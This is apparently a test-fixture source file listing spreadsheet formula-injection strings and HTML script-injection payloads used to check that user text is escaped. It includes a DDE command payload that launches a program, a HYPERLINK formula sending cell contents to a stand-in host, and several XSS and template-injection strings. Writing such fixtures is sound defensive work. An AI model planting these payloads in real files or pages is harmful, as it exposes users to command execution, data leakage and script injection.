/** Texts that must stay text: formulas for spreadsheets, markup and scripts for pages. */

export const FORMULAS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '\u00A0=1', '＝1+1', '＋1', '－1', '＠SUM(1)',
  '=1+1\nsecond line', '=HYPERLINK("http://example.invalid/?"&A1,"click")', '\u200B=1', '\uFEFF=1', '\u202E=1',
  "'=1", "''\t=1", '-5', '=cmd|\'/C calc\'!A0', '\0=1', '\t', '\n', '\rtext', '=', '- 1', ' \t -x',
  'a";=1+1', 'a",=1+1', 'a\n=1+1', '#REF!', '#N/A', '_x003D_1+1', '{=1+1}', 'of:=1+1',
]; // prettier-ignore

export const MARKUP: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '</td></tr></table><svg onload=alert(1)>',
  '"><meta http-equiv=refresh content=0;url=http://example.invalid>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)",
  'javascript:alert(1)',
  '&lt;b&gt;',
  "O'Brien & Sons <Ltd>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--', '-->', '<base href=//example.invalid>', '<iframe src=//example.invalid>',
  '{{constructor.constructor(1)()}}', '${alert(1)}', '\u202EosotnoC', 'Con\u200Btoso', 'a\u0000b',
]; // prettier-ignore

/** A text for every field at once. */
export const EVERYTHING = [...MARKUP, ...FORMULAS].join(' ');
